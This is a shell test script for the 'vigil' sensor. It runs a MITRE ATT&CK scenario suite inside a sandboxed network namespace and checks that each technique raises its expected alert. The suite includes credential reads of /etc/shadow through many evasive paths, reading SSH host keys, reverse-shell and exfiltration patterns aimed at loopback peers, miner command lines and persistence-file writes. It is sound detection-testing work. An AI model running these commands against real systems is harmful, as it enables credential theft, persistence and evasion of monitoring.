#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# t2500: the public scenario suite (docs/DETECTION.md §7): attack techniques from MITRE ATT&CK
# for Linux and containers (execution, persistence, privilege escalation, defence evasion,
# credential access, discovery, lateral movement, exfiltration, command and control), with
# the evasions of the sensor itself (renamed and symlinked binaries, prctl(PR_SET_NAME),
# threads, io_uring in its modes, execveat, openat2, open_by_handle_at, memfd + execveat).
#
# One workload (a shell running a plan from a file, so its command line never changes) is
# learned once doing the benign twin of every technique; a benign rerun with every rule on must
# raise nothing; then each group of attacks runs in one `vigil watch`, each attack followed by
# a fence (an exec the profile knows with new arguments) that attributes the alerts before it
# to that attack (t2500-scenarios.py). The table below is the suite: the rules each technique
# must raise. Rows of group "gap" are known misses (docs/DETECTION.md): they run, and what they
# raise is printed, never asserted.
#
# Runs in a private network namespace (DNS on port 53, fixed ports, 127.0.0.x peers).
if [ "$(id -u)" = 0 ] && [ -z "${VIGIL_T2500_NETNS:-}" ] && command -v unshare >/dev/null; then
	VIGIL_T2500_NETNS=1 exec unshare --net -- "$0" "$@"
fi
. "$(dirname "$0")/../lib/common.sh"
requires_root
requires_progs
requires_io_uring
requires_cmd ip setpriv nsenter unshare mount ssh perl find python3 install truncate readlink
vigil_has watch || skip "vigil watch is not part of this build"

W=$TEST_TMP/w
TABLE=$TEST_TMP/table
cat >"$TABLE" <<EOF
# group|id|tactic|ATT&CK|expect|what
A|shell-from-find|execution|T1059.004|V1100{event.parent_exe~find}|a program that is not a shell (find -exec) starts sh -c id
A|perl-from-find|execution|T1059|V1100{event.path~perl}|find -exec starts a perl one-liner
A|memfd-exec|defence evasion|T1620|R1005|an ELF copied into a memfd and run with execveat(AT_EMPTY_PATH)
A|devshm-exec|execution|T1059|R1000|a binary copied to /dev/shm and run
A|execveat|defence evasion|T1106|R0001{event.path=/usr/bin/whoami}|a new program run with execveat(dirfd, name)
A|exec-by-fd|defence evasion|T1106|R0001{event.path=/usr/bin/groups}|a new program run by descriptor (O_PATH, execveat AT_EMPTY_PATH)
A|exec-from-thread|defence evasion|T1106|R0001{event.path=/usr/bin/hostid}|execve from a second thread
A|renamed-binary|defence evasion|T1036.003|R0001{event.path=$W/bin/kworkerd}|id copied under a kernel thread's name and run
A|symlinked-exec|defence evasion|T1036|R0001{event.path=/usr/bin/base64}|a new program run through a symlink named ls
A|kubectl|execution|T1609|R0007|kubectl run in the workload
A|drop-and-exec|execution|T1105|R1001{event.path=$W/drop/payload}|a binary written by the workload, made executable and run
A|prctl-runc|defence evasion|T1036.004|R1006{process.comm=runc}|a process names itself runc (prctl PR_SET_NAME) and unshares: runc's exemption is by executable
A|ld-preload|persistence|T1574.006|R1011{event.ld_hook=LD_PRELOAD}|a known program started with LD_PRELOAD set
A|miner-stratum|impact|T1496|R1007|a renamed miner started with a stratum pool URL
A|miner-algo|impact|T1496|R1007|a renamed miner started with --algo rx/0
B|shadow-read|credential access|T1003.008|R0010{event.path=/etc/shadow}|cat /etc/shadow
B|shadow-symlink|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened through a symlink in the workload's directory
B|shadow-dotdot|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened as ../../../etc/./shadow
B|shadow-openat2|defence evasion|T1003.008|R0010{event.path=/etc/shadow,event.flags~O_NONBLOCK}|openat2
B|shadow-uring|defence evasion|T1003.008|R0010{event.path=/etc/shadow,event.flags~O_CLOEXEC}|io_uring OPENAT
B|shadow-uring-openat2|defence evasion|T1003.008|R0010{event.path=/etc/shadow,event.flags~O_NOATIME}|io_uring OPENAT2
B|shadow-uring-async|defence evasion|T1003.008|R0010{event.path=/etc/shadow,event.flags~O_SYNC}|io_uring OPENAT forced to an io-wq worker (IOSQE_ASYNC)
B|shadow-uring-sqpoll|defence evasion|T1003.008|R0010{event.path=/etc/shadow,event.flags~O_NOFOLLOW}|io_uring OPENAT submitted by the kernel's SQPOLL thread
B|shadow-opath|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|O_PATH, then reopened through /proc/self/fd/N
B|shadow-handle|defence evasion|T1003.008|R0010{key=/etc/shadow}|open_by_handle_at: no name at all
B|gshadow-thread|defence evasion|T1003.008|R0010{event.path=/etc/gshadow}|/etc/gshadow read from a second thread
B|shadow-hardlink|credential access|T1003.008|R1012|a hard link to /etc/shadow
B|shadow-symlink-over|credential access|T1003.008|R1010|a symlink to /etc/shadow
B|sa-token|credential access|T1528|R0006|the pod's service-account token read
B|environ|credential access|T1552.001|R0008{event.path=/proc/1/environ}|another process's environment read from /proc
B|host-key|credential access|T1552.004|R0010{event.path=/etc/ssh/ssh_host_rsa_key}|an SSH host private key read (attempts count)
B|hosts-read|discovery|T1018|R0002{event.path=/etc/hosts}|the hosts file read for other systems (R0002, on with --enable)
C|cron|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500}|a cron entry written (denied: as nobody)
C|authorized-keys|persistence|T1098.004|V1101{event.path=/root/.ssh/authorized_keys}|an SSH key added for root
C|bashrc|persistence|T1546.004|V1101{event.path=/root/.bashrc}|root's shell start-up file appended to
C|systemd-unit|persistence|T1543.002|V1101{event.path=/etc/systemd/system/vigil-t2500.service}|a systemd unit written
C|passwd-write|persistence|T1136.001|V1101{event.path=/etc/passwd}|an account appended to /etc/passwd
C|sudoers|privilege escalation|T1548.003|V1101{event.path=/etc/sudoers.d/vigil-t2500}|a sudoers drop-in written
C|ld-so-preload|persistence|T1574.006|R1011{event.path=/etc/ld.so.preload}|/etc/ld.so.preload written
C|pam|credential access|T1556.003|V1101{event.path=/etc/pam.d/vigil-t2500}|a PAM module configuration written
C|rc-local|persistence|T1037.004|V1101{event.path=/etc/rc.local}|/etc/rc.local written
C|kernel-module|persistence|T1547.006|R1002|init_module / finit_module
C|ebpf-load|defence evasion|T1014|R0009|an eBPF program loaded
C|unshare|privilege escalation|T1611|R1006|unshare(user, mnt): the first step of a container escape
C|ptrace|privilege escalation|T1055.008|R1015|PTRACE_ATTACH to a child
C|raw-socket-cap|privilege escalation|T1548|R0004{event.capability=CAP_NET_RAW}|a capability the workload never used (a raw socket)
C|setns-host|privilege escalation|T1611|V1105{event.host~CLONE_NEWNS}|a process in a mount namespace of its own joins the host's (setns on /proc/PID/ns/mnt)
C|setns-pidfd|privilege escalation|T1611|V1105{event.host~CLONE_NEWNET}|the same by a pidfd: the host's mount and network namespaces in one setns
C|nsenter-host|privilege escalation|T1611|V1105|nsenter -t PID -m -p from namespaces of its own (a privileged container's escape)
C|setuid-bit|privilege escalation|T1548.001|V1106{event.path=$W/suid}|the setuid bit set on a file the workload owns (chmod u+s)
C|setuid-install|privilege escalation|T1548.001|V1106{event.path=$W/suid-install}|install -m 4755
C|setuid-cp|privilege escalation|T1548.001|V1106{event.path=$W/suid-copy,event.call=fchmod}|cp -p of a setuid file (the copy keeps its mode)
C|setuid-creat|privilege escalation|T1548.001|V1106{event.call=openat}|open(O_CREAT) with mode 04755
C|setgid-mknod|privilege escalation|T1548.001|V1106{event.call=mknodat}|mknod of a regular file with mode 02755
C|history-clear|defence evasion|T1070.003|V1107{event.path=/root/.bash_history}|root's shell history truncated (O_TRUNC; denied: as nobody)
C|history-unlink|defence evasion|T1070.003|V1107{event.type=erase}|a shell history removed (rm)
C|history-symlink|defence evasion|T1070.003|V1107{event.type=symlink}|a shell history replaced by a link to /dev/null (ln -sf)
C|history-truncate|defence evasion|T1070.003|V1107{event.call=ftruncate}|truncate -s0 of a REPL's history
C|history-env|defence evasion|T1070.003|V1107{event.history_off=HISTFILE=/dev/null}|a program started with HISTFILE=/dev/null
D|api-server|discovery|T1613|R0007|a connection to the Kubernetes API server's port
D|ssh-odd-port|lateral movement|T1021.004|R1003{event.port=2222}|ssh to a new host on port 2222
D|mining-port|command and control|T1571|R1009|a connection to port 3333
D|pool-dns|impact|T1496|R1008{event.domain=pool.supportxmr.com}|a mining pool's name looked up
D|dns-tunnel|command and control|T1071.004|R0005|a DNS question carrying data in its labels
D|exfil-tcp|exfiltration|T1041|R0011{event.addr=127.0.0.2,event.port=7001}|data sent to a new TCP peer
D|exfil-udp|exfiltration|T1048.003|R0011{event.type=send,event.addr=127.0.0.2}|a datagram to a new peer, sendto with no connect
D|exfil-sendmmsg|exfiltration|T1048.003|R0011{event.type=send,event.addr=127.0.0.3}|sendmmsg to a new peer, no connect
D|exfil-fastopen|exfiltration|T1048|R0011{event.fastopen=true}|TCP Fast Open: data in the SYN, no connect call
D|exfil-uring|exfiltration|T1041|R0011{event.addr=127.0.0.4}|io_uring SOCKET + CONNECT + SEND to a new peer
D|connect-thread|command and control|T1071|R0011{event.addr=127.0.0.5}|a connection from a second thread
D|port-scan|discovery|T1046|R0011{event.port=7014}|connections to five ports in a row
D|exec-from-mount|execution|T1059|R1004{event.path=$W/mnt/tool-evil}|a program the profile lacks run from a volume mounted into the workload's mount namespace
D|uname|discovery|T1082|R0001{event.path=/usr/bin/uname}|uname -a
E|shadow-proc-root|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened as /proc/self/root/etc/shadow
E|shadow-dirfd|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|openat(descriptor of /etc, "shadow")
E|shadow-slashes|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened as //etc//shadow
E|shadow-bind|defence evasion|T1003.008|R0010|/etc/shadow read through a bind mount of /etc in the workload's volume namespace
E|shadow-uring-dirfd|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|io_uring OPENAT relative to a descriptor of /etc
E|shadow-uring-link|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|io_uring OPENAT linked after a NOP (IOSQE_IO_LINK)
E|shadow-uring-fixed|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|io_uring OPENAT into a registered file slot, read by slot
E|shadow-uring-defer|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|io_uring OPENAT on a DEFER_TASKRUN ring
E|shadow-tree|defence evasion|T1003.008|R0010{key=/etc/shadow}|open_tree(OPEN_TREE_CLONE) of /etc, then openat(tree, "shadow")
E|shadow-chroot|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|chroot /etc, then open /shadow
E|shadow-long|defence evasion|T1003.008|R0010|a denied open of /etc/shadow spelled with 1500 "./" (longer than the sensor copies)
E|shadow-python|credential access|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow copied with copy_file_range by python
E|shell-via-ldso|execution|T1059.004|V1100|find -exec the dynamic loader running /bin/sh -c id (the kernel's executable is ld.so)
E|shell-via-symlink|execution|T1059.004|V1100|find -exec a symlink named helper to /bin/sh
E|shell-via-env|execution|T1059.004|V1100|find -exec env sh -c id
E|busybox-sh|execution|T1059.004|V1100|find -exec busybox sh -c id
E|drop-rename-exec|execution|T1105|R1001|a binary written under a temporary name, renamed into place and run
E|drop-fexecve|defence evasion|T1620|R1001/R1005|a binary written by the workload, run by descriptor (fexecve)
E|replace-known|defence evasion|T1036.005|R1001{event.path=$W/bin/tool}|a program the profile runs, overwritten by the workload and run
E|replace-outside|defence evasion|T1036.005|R1001{event.path=$W/bin/tool2}|a program the profile runs, replaced before the watch (not by the workload) and run
E|udp-redirect|exfiltration|T1048.003|R0011{event.addr=127.0.0.6}|a UDP socket connected to a known peer, then sendto() a new one
E|udp-sendmsg|exfiltration|T1048.003|R0011{event.addr=127.0.0.7}|sendmsg with a destination, no connect
E|udp6-mapped|exfiltration|T1048.003|R0011{event.port=5308}|sendto an IPv4-mapped IPv6 address (::ffff:127.0.0.8) from an AF_INET6 socket
E|udp6-loopback|exfiltration|T1048.003|R0011{event.port=5309}|sendto [::1]:5309 from an AF_INET6 socket
E|tcp6-mapped|exfiltration|T1041|R0011{event.port=7001}|a TCP connection to ::ffff:127.0.0.2 port 7001
E|pool-dns-case|impact|T1496|R1008|a mining pool's name looked up in mixed case (POOL.SupportXMR.COM)
E|miner-algo-eq|impact|T1496|R1007|a renamed miner started with --algo=rx/0
E|history-redirect|defence evasion|T1070.003|V1107|a shell history emptied by a redirection (O_TRUNC)
E|history-rename-away|defence evasion|T1070.003|V1107|a shell history renamed away
E|history-size|defence evasion|T1070.003|V1107|a program started with HISTSIZE=0
E|setcap|privilege escalation|T1548|V1106|a file given capabilities (setcap cap_setuid+ep: the xattr security.capability)
E|setcap-uring|privilege escalation|T1548|V1106{event.call~SETXATTR}|file capabilities given through io_uring (IORING_OP_SETXATTR), no setxattr call
E|setcap-uring-fd|privilege escalation|T1548|V1106{event.call~FSETXATTR}|the same by descriptor (IORING_OP_FSETXATTR)
E|setuid-fchmodat2|privilege escalation|T1548.001|V1106|fchmodat2 with mode 04755
E|setuid-uring-creat|privilege escalation|T1548.001|V1106|io_uring OPENAT with O_CREAT and mode 04755
E|ptrace-seize|privilege escalation|T1055.008|R1015|PTRACE_SEIZE of a child
E|proc-mem-write|privilege escalation|T1055.009|R1015|a child's memory written through /proc/PID/mem
E|vm-writev|privilege escalation|T1055|R1015|a child's memory written with process_vm_writev
E|cron-uring|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-u}|a cron entry written through io_uring OPENAT (denied: as nobody)
E|cron-dirfd|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-d}|a cron entry written relative to a descriptor of /etc/cron.d (denied: as nobody)
E|authorized-keys-openat2|persistence|T1098.004|V1101{event.path=/root/.ssh/authorized_keys}|an SSH key added with openat2 (denied: as nobody)
E|flood-shadow|defence evasion|T1562|R0010{event.path=/etc/shadow}|two seconds of open flood on every CPU, then /etc/shadow read
F|revshell-bash-tcp|command and control|T1059.004|R0011{event.addr=127.0.0.9,event.port=7101}|a bash reverse shell: exec 3<>/dev/tcp/HOST/PORT
F|revshell-bash-udp|command and control|T1059.004|R0011{event.addr=127.0.0.9,event.port=7102}|the same over /dev/udp (a connected datagram socket)
F|revshell-python|command and control|T1059.006|R0011{event.addr=127.0.0.10,event.port=7103}|a python reverse shell (socket, connect, dup2)
F|revshell-perl|command and control|T1059|R0011{event.addr=127.0.0.11,event.port=7104}|a perl reverse shell (socket, connect, open STDIN)
F|revshell-openssl|command and control|T1573.002|R0011{event.addr=127.0.0.12,event.port=7105}|an encrypted reverse shell: openssl s_client to a new peer
F|revshell-ldso|execution|T1059.004|V1100|find -exec the dynamic loader running bash with a /dev/tcp reverse shell
F|busybox-renamed|execution|T1059.004|V1100|find -exec a copy of busybox named busyboxd running sh -c id
F|busybox-link-sh|execution|T1059.004|V1100|find -exec a symlink named sh to busybox
F|tmpfile-exec|defence evasion|T1620|R1001/R1005|an ELF written into an O_TMPFILE (never named) and run by descriptor
F|miner-coin-xmr|impact|T1496|R1007|a renamed miner started with --coin=XMR --tls on an odd port
F|miner-cn-algo|impact|T1496|R1007|a renamed miner started with -a cn/r
F|miner-stratum-ssl|impact|T1496|R1007|a renamed miner started with --url=stratum+ssl://HOST:443
F|cron-rename|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-r}|a cron entry renamed into place from elsewhere (denied: as nobody)
F|systemd-symlink|persistence|T1543.002|V1101{event.path=/etc/systemd/system/vigil-t2500-l.service}|a systemd unit linked into place (symlink; denied: as nobody)
F|authorized-keys-link|persistence|T1098.004|V1101{event.path=/root/.ssh/authorized_keys2}|a key file hard-linked into root's ~/.ssh (denied: as nobody)
F|ld-so-preload-rename|persistence|T1574.006|R1011{event.path=/etc/ld.so.preload}|/etc/ld.so.preload renamed into place (denied: as nobody)
F|ld-so-conf-d|persistence|T1574.006|V1101{event.path=/etc/ld.so.conf.d/vigil-t2500.conf}|a library search path added in /etc/ld.so.conf.d (denied: as nobody)
F|modprobe-d|persistence|T1547.006|V1101{event.path=/etc/modprobe.d/vigil-t2500.conf}|a modprobe install hook written (denied: as nobody)
F|apt-hook|persistence|T1546|V1101{event.path=/etc/apt/apt.conf.d/99vigil-t2500}|an APT hook (APT::Update::Pre-Invoke) written (denied: as nobody)
F|logrotate-hook|persistence|T1546|V1101{event.path=/etc/logrotate.d/vigil-t2500}|a logrotate postrotate script written (denied: as nobody)
F|shadow-proc1-root|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened as /proc/1/root/etc/shadow
F|shadow-proc-cwd|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|chdir /etc, then /proc/self/cwd/shadow
F|sa-token-data|credential access|T1528|R0006|the token read through the projected volume's ..data symlink
F|sa-token-dirfd|credential access|T1528|R0006|the token opened relative to a descriptor of its directory
F|environ-task|credential access|T1552.001|R0008|pid 1's environment read as /proc/1/task/1/environ
F|history-overwrite|defence evasion|T1070.003|V1107{event.path=$W/home/.sh_history}|a shell history overwritten in place, no truncation (dd conv=notrunc)
F|history-shred|defence evasion|T1070.003|V1107|a shell history shredded (shred: overwritten, then removed)
F|history-uring-trunc|defence evasion|T1070.003|V1107|a shell history truncated at open through io_uring OPENAT
F|clone-newuser|privilege escalation|T1611|R1006|clone(CLONE_NEWUSER, CLONE_NEWNS) without unshare
F|dns-exfil-hex|exfiltration|T1048.003|R0005|a DNS question carrying hex-encoded data
F|raw-icmp|exfiltration|T1095|V1001|a raw ICMP socket sending to a new peer
F|busybox-copy-argv0|execution|T1059.004|V1100|find -exec a copy of busybox named update, run with argv[0] sh (execveat): busybox by content, the applet by argv
F|cron-uring-rename|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-ur}|a cron entry renamed into place by io_uring RENAMEAT (denied: as nobody)
F|systemd-uring-symlink|persistence|T1543.002|V1101{event.path=/etc/systemd/system/vigil-t2500-us.service}|a systemd unit symlinked into place by io_uring SYMLINKAT (denied: as nobody)
F|wtmp-clear|defence evasion|T1070.002|V1110{event.path=/var/log/wtmp}|login records emptied by a redirection (O_TRUNC; denied: as nobody)
F|btmp-truncate|defence evasion|T1070.002|V1110{event.path=/var/log/btmp}|failed-login records truncated with truncate(2) (perl; denied: as nobody)
F|authlog-rm|defence evasion|T1070.002|V1110{event.path=/var/log/auth.log}|the authentication log removed (rm -f; denied: as nobody)
EOF

# ---- the world: peers, files, a mount namespace with a volume ---------------------------
ip link set lo up
spawn dns "$PROGS/dns_server" 53 127.0.0.1
wait_for_line "$TEST_TMP/dns.log" '^port 53$' 30
for peer in 127.0.0.1:7000 127.0.0.1:6443 127.0.0.1:3333 127.0.0.2:7001; do
	spawn "echo-${peer//[.:]/-}" "$PROGS/tcp_echo" "${peer#*:}" 0 "${peer%:*}"
	wait_for_line "$TEST_TMP/echo-${peer//[.:]/-}.log" '^port ' 30
done
sysctl -qw net.ipv4.tcp_fastopen=3 # client and server in this namespace

mkdir -p "$W"/{bin,lnk,drop,build,findroot,vol,mnt,etcb,h,s,home,shared} "$W/root/var/run/secrets/kubernetes.io/serviceaccount"
# a hard link to /etc/shadow (shadow-hardlink) must never outlive the test, kept temp dir or not:
# open_by_handle_at names a file by whichever of its links the kernel has at hand
on_exit rm -f "$W/h/x" "$W/s/x" "$W/lnk/shadow"
chmod 755 "$TEST_TMP" "$W"
echo "benign data" >"$W/data.txt"
head -c 32 /dev/urandom | base64 >"$W/root/var/run/secrets/kubernetes.io/serviceaccount/token"
cp /usr/bin/id "$W/bin/kworkerd"
cp /bin/true "$W/bin/kubectl"
cp /bin/true "$W/bin/kthreadd"
cp /bin/true "$W/bin/systemd-journal"
cp /bin/sleep "$W/bin/tool"
cp /bin/sleep "$W/bin/tool2"
cp /bin/true "$W/capfile"
cp /bin/true "$W/capfile2"
cp /bin/true "$W/capfile3"
ln -s /bin/sh "$W/lnk/helper"
ln -s /usr/bin/base64 "$W/lnk/ls"
ln -s /etc/shadow "$W/lnk/shadow"
cp /bin/sleep "$W/vol/tool-ok"
cp /bin/sleep "$W/vol/tool-evil"
: >"$W/suid"
echo ls >"$W/home/.bash_history"
echo ls >"$W/home/.zsh_history"
echo 1 >"$W/home/.python_history"
echo 1 >"$W/home/.mysql_history"
echo ls >"$W/home/.sh_history"
echo 1 >"$W/home/.psql_history"
cp /usr/bin/busybox "$W/bin/busyboxd"
cp /usr/bin/busybox "$W/bin/update"
ln -s /usr/bin/busybox "$W/lnk/sh"
# a projected service-account volume as the kubelet writes it: a timestamped directory and ..data
SA=$W/proj/var/run/secrets/eks.amazonaws.com/serviceaccount
mkdir -p "$SA/..2026_12_07_00_00_00.000000001"
head -c 32 /dev/urandom | base64 >"$SA/..2026_12_07_00_00_00.000000001/token"
ln -s ..2026_12_07_00_00_00.000000001 "$SA/..data"
ln -s ..data/token "$SA/token"
# the volume: a private mount namespace where $W/vol is bind-mounted on $W/mnt (a pod's volume)
spawn holder unshare -m --propagation private sh -c \
	"mount --bind '$W/vol' '$W/mnt' && mount --bind /etc '$W/etcb' && echo mounted && exec sleep 600"
HOLDER=$SPAWNED_PID
wait_for_line "$TEST_TMP/holder.log" '^mounted$' 30

# ---- the workload ---------------------------------------------------------------------------
PLAN=$TEST_TMP/plan
RUN=$TEST_TMP/run.sh
{
	printf '#!/bin/sh\nP=%s\nW=%s\nHOLDER=%s\nPLAN=%s\nSA=%s\n' "$PROGS" "$W" "$HOLDER" "$PLAN" "$SA"
	cat <<'EOF'
# the host's namespaces as the sensor takes them: pid 1's, or its own where pid 1's are hidden
# (a sandbox), which this shell shares
if readlink /proc/1/ns/mnt >/dev/null 2>&1; then H=1; else H=$$; fi
nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
# an open for write as nobody (O_WRONLY|O_CREAT|O_APPEND): denied, and the attempt counts
try_write() { nobody "$P/open_via" -x 1089 sys "$1"; }
ssh_to() { ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no \
	-o UserKnownHostsFile=/dev/null -p "$2" "$1" true; }
connect() { "$P/thread_do" --here connect "$1" "$2" "${3:-x}"; }

benign() {
	/bin/echo fence benign
	cat /etc/hostname
	find "$W/findroot" -maxdepth 0 -exec /bin/true {} \;
	/bin/sleep 0.1
	"$P/iouring_openat" "$W/data.txt"
	"$P/open_via" sys "$W/data.txt"
	"$P/open_via" uring "$W/data.txt"
	"$P/thread_do" open "$W/data.txt"
	# a build step: writes a program and runs it. It lives half a second: the content check of
	# a pinned executable reads it through its process (or its parent), and a program whose
	# process and parent are both gone cannot be read (R1001 "could not be read", DETECTION §3)
	rm -f "$W/build/tool"
	"$P/write_exec" "$W/build/tool" /bin/sleep 0.5
	"$P/dns_query" api.example.org 127.0.0.1 53
	connect 127.0.0.1 7000 hello
	"$P/iouring_connect" 127.0.0.1 7000 hello
	"$P/udp_send" sendto 127.0.0.1 5300
	"$P/udp_send" connected 127.0.0.1 5300
	"$W/bin/tool" 0.1
	"$W/bin/tool2" 0.1
	"$P/cap_use" net_bind_service
	ssh_to 127.0.0.1 2222
	nobody /bin/cat /etc/hostname
	nsenter -t "$HOLDER" -m "$W/mnt/tool-ok" 0.1
	"$P/setns_join"
	chmod 0644 "$W/suid"
	# a shared directory: its setgid bit makes new files take its group
	chmod g+s "$W/shared"
	# a shell appending to its history, and rewriting it the way bash and readline do (a
	# temporary file renamed over it). The temporary name carries the PID, as readline's
	# does: learning takes a number before an extension as volatile (sensor/learn/args.c),
	# so the rerun's PID, of any length, is quiet (CI s9c broke on this while 1-3 digits
	# inside a token stayed literal)
	echo ls >>"$W/home/.bash_history"
	cp "$W/home/.bash_history" "$W/home/.bash_history-$$.tmp"
	mv "$W/home/.bash_history-$$.tmp" "$W/home/.bash_history"
	# a shell talking to a peer the profile knows through bash's /dev/tcp; a REPL history read
	bash -c 'exec 3<>/dev/tcp/127.0.0.1/7000; echo hello >&3'
	cat "$W/home/.psql_history"
	# the login records read, as last(1) does
	cat /var/log/wtmp
}

t_shell_from_find() { find "$W/findroot" -maxdepth 0 -exec /bin/sh -c 'id' \; ; }
t_perl_from_find() { find "$W/findroot" -maxdepth 0 -exec perl -e 'exit 0' \; ; }
t_memfd_exec() { "$P/memfd_exec" /bin/true; }
t_devshm_exec() { "$P/devshm_exec"; }
t_execveat() { "$P/exec_via" execveat /usr/bin/whoami; }
t_exec_by_fd() { "$P/exec_via" fd /usr/bin/groups; }
t_exec_from_thread() { "$P/exec_via" thread /usr/bin/hostid; }
t_renamed_binary() { "$W/bin/kworkerd"; }
t_symlinked_exec() { "$W/lnk/ls" --version; }
t_kubectl() { "$W/bin/kubectl" get pods; }
t_drop_and_exec() { "$P/write_exec" "$W/drop/payload" /usr/bin/tty; }
t_prctl_runc() { "$P/renamed" runc prctl unshare; }
# the sensor reads the environment of the new program while it runs: it lives a second
t_ld_preload() { LD_PRELOAD="$W/nothere.so" /bin/sleep 1; }
t_miner_stratum() { "$W/bin/kthreadd" -o stratum+tcp://127.0.0.1:3333 -u 44AFFq5kSiGBoZ -k; }
t_miner_algo() { "$W/bin/systemd-journal" --algo rx/0 --threads 2; }

t_shadow_read() { cat /etc/shadow; }
t_shadow_symlink() { "$P/open_via" -x 256 sys "$W/lnk/shadow"; }
t_shadow_dotdot() { "$P/open_via" -x 4096 sys "$W/../../../../../../etc/./shadow"; }
t_shadow_openat2() { "$P/open_via" -x 2048 openat2 /etc/shadow; }
t_shadow_uring() { "$P/open_via" -x 524288 uring /etc/shadow; }
t_shadow_uring_openat2() { "$P/open_via" -x 262144 uring-openat2 /etc/shadow; }
t_shadow_uring_async() { "$P/open_via" -x 1052672 uring-async /etc/shadow; }
t_shadow_uring_sqpoll() { "$P/open_via" -x 131072 uring-sqpoll /etc/shadow; }
t_shadow_opath() { "$P/open_via" -x 526336 opath /etc/shadow; }
t_shadow_handle() { "$P/open_via" -x 2304 handle /etc/shadow; }
t_gshadow_thread() { "$P/thread_do" open /etc/gshadow; }
t_shadow_hardlink() { "$P/link_to" hard /etc/shadow "$W/h/x"; rm -f "$W/h/x"; }
t_shadow_symlink_over() { "$P/link_to" sym /etc/shadow "$W/s/x"; }
t_sa_token() { cat "$W/root/var/run/secrets/kubernetes.io/serviceaccount/token"; }
t_environ() { cat /proc/1/environ; }
t_host_key() { cat /etc/ssh/ssh_host_rsa_key; }
t_hosts_read() { cat /etc/hosts; }

t_cron() { try_write /etc/cron.d/vigil-t2500; }
t_authorized_keys() { try_write /root/.ssh/authorized_keys; }
t_bashrc() { try_write /root/.bashrc; }
t_systemd_unit() { try_write /etc/systemd/system/vigil-t2500.service; }
t_passwd_write() { try_write /etc/passwd; }
t_sudoers() { try_write /etc/sudoers.d/vigil-t2500; }
t_ld_so_preload() { try_write /etc/ld.so.preload; }
t_pam() { try_write /etc/pam.d/vigil-t2500; }
t_rc_local() { try_write /etc/rc.local; }
t_kernel_module() { "$P/module_load" finit; "$P/module_load" init; }
t_ebpf_load() { "$P/bpf_load"; }
t_unshare() { "$P/unshare_ns" user,mnt; }
t_ptrace() { "$P/ptrace_child" attach; }
t_raw_socket_cap() { "$P/cap_use" net_raw; }

t_api_server() { connect 127.0.0.1 6443; }
t_ssh_odd_port() { ssh_to 127.0.0.3 2222; }
t_mining_port() { connect 127.0.0.1 3333; }
t_pool_dns() { "$P/dns_query" pool.supportxmr.com 127.0.0.1 53; }
t_dns_tunnel() { "$P/dns_query" mfzwizltoqqho33snrscaylmnrsq.t.example.net 127.0.0.1 53; }
t_exfil_tcp() { connect 127.0.0.2 7001 secret; }
t_exfil_udp() { "$P/udp_send" sendto 127.0.0.2 5301; }
t_exfil_sendmmsg() { "$P/udp_send" sendmmsg 127.0.0.3 5302; }
t_exfil_fastopen() { "$P/udp_send" fastopen 127.0.0.2 7001; }
t_exfil_uring() { "$P/iouring_connect" 127.0.0.4 7002 secret; }
t_connect_thread() { "$P/thread_do" connect 127.0.0.5 7003; }
t_port_scan() { for p in 7010 7011 7012 7013 7014; do connect 127.0.0.1 $p; done; }
t_exec_from_mount() { nsenter -t "$HOLDER" -m "$W/mnt/tool-evil" 1; }
t_uname() { uname -a; }
t_setns_host() { unshare -m "$P/setns_join" "/proc/$H/ns/mnt"; }
t_setns_pidfd() { unshare -m -n "$P/setns_join" --pidfd "$H"; }
t_nsenter_host() { unshare -m nsenter -t "$H" -m -p /bin/true; }
t_setuid_bit() { chmod u+s "$W/suid"; }
t_setuid_install() { install -m 4755 /bin/true "$W/suid-install"; }
t_setuid_cp() { cp -p "$W/suid-install" "$W/suid-copy"; }
t_setuid_creat() { python3 -c 'import os, sys; os.close(os.open(sys.argv[1], os.O_CREAT | os.O_WRONLY, 0o4755))' "$W/suid-creat"; }
t_setgid_mknod() { python3 -c 'import os, sys; os.mknod(sys.argv[1], 0o102755)' "$W/sgid-mknod"; }
t_history_clear() { nobody "$P/open_via" -x 513 sys /root/.bash_history; }
t_history_unlink() { rm "$W/home/.zsh_history"; }
t_history_symlink() { ln -sf /dev/null "$W/home/.ash_history"; }
t_history_truncate() { truncate -s0 "$W/home/.python_history"; }
# the sensor reads the environment of the new program while it runs: it lives a second
t_history_env() { HISTFILE=/dev/null /bin/sleep 1; }

t_shadow_proc_root() { "$P/open_via" -x 256 sys /proc/self/root/etc/shadow; }
t_shadow_dirfd() { "$P/open_via" -x 2048 -d /etc sys shadow; }
t_shadow_slashes() { "$P/open_via" -x 4096 sys //etc//shadow; }
t_shadow_bind() { nsenter -t "$HOLDER" -m "$P/open_via" -x 8192 sys "$W/etcb/shadow"; }
t_shadow_uring_dirfd() { "$P/open_via" -x 262144 -d /etc uring shadow; }
t_shadow_uring_link() { "$P/open_via" -x 10240 uring-link /etc/shadow; }
t_shadow_uring_fixed() { "$P/open_via" -x 2304 uring-fixed /etc/shadow; }
t_shadow_uring_defer() { "$P/open_via" -x 4352 uring-defer /etc/shadow; }
t_shadow_tree() { "$P/open_via" -x 6144 -d /etc tree shadow; }
t_shadow_chroot() { "$P/open_via" -x 8448 -r /etc chroot /shadow; }
